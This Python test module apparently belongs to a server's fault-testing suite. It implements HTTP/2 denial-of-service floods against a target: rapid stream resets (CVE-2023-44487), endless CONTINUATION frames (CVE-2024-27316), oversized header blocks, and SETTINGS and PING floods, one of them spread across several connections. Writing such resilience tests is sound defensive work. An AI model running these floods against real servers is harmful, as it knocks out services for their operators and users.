"""Floods of frames that a server has to do something about, by nobody in particular."""

from __future__ import annotations

import struct
from concurrent.futures import ThreadPoolExecutor
from typing import Final

from hpack import Encoder

from tests.faults.attack_means import BUNCH, headers, over_and_over
from tests.faults.http2_connection import (
    CANCEL,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    PING,
    RST_STREAM,
    SETTINGS,
    Headers,
    frame,
)

CONTINUATION: Final = 9
MANY: Final = 4000
"""Frames at a time: as much as a server can do in a millisecond."""
MANY_LARGE: Final = 2000
SEVERAL: Final = 6
"""Connections; fewer than the server has threads to read them."""


def rapid_resets(target: str, until: float, _metadata: Headers) -> int:
    """Calls that are reset as soon as they are begun (CVE-2023-44487)."""
    block = Encoder().encode(headers())

    def bunch(before: int) -> bytes:
        streams = range(2 * before + 1, 2 * (before + BUNCH) + 1, 2)
        return b"".join(
            frame(HEADERS, END_HEADERS | END_STREAM, stream, block)
            + frame(RST_STREAM, 0, stream, CANCEL.to_bytes(4))
            for stream in streams
        )

    return over_and_over(target, until, bunch)


def continuations(target: str, until: float, _metadata: Headers) -> int:
    """Headers without an end (CVE-2024-27316), and without a pause: 30 MB at a time."""
    more = frame(CONTINUATION, 0, 1, Encoder().encode([("x-more", "m" * 15_000)], huffman=False))
    first = frame(HEADERS, END_STREAM, 1, Encoder().encode(headers()))
    many = more * MANY_LARGE
    return over_and_over(target, until, lambda _: many, size=MANY_LARGE, first=first)


def large_metadata(target: str, until: float, _metadata: Headers) -> int:
    """Calls with as much metadata as a block of headers holds."""
    many = [*headers(), *((f"x-{number}", "m" * 1000) for number in range(16))]
    block = Encoder().encode(many, huffman=False)

    def bunch(before: int) -> bytes:
        streams = range(2 * before + 1, 2 * (before + 20) + 1, 2)
        return b"".join(
            frame(HEADERS, END_STREAM, stream, block[:16_000])
            + frame(CONTINUATION, END_HEADERS, stream, block[16_000:])
            for stream in streams
        )

    return over_and_over(target, until, bunch, size=20)


def settings(target: str, until: float, _metadata: Headers) -> int:
    """Settings, each of which is to be acknowledged."""
    many = frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65_535)) * MANY
    return over_and_over(target, until, lambda _: many, size=MANY)


def settings_over_several(target: str, until: float, metadata: Headers) -> int:
    """The same over several connections, which keep as many of its threads busy."""
    with ThreadPoolExecutor(SEVERAL) as attackers:
        return sum(attackers.map(lambda _: settings(target, until, metadata), range(SEVERAL)))


def pings(target: str, until: float, _metadata: Headers) -> int:
    """Pings, each of which is to be answered."""
    many = frame(PING, 0, 0, b"pingping") * MANY
    return over_and_over(target, until, lambda _: many, size=MANY)
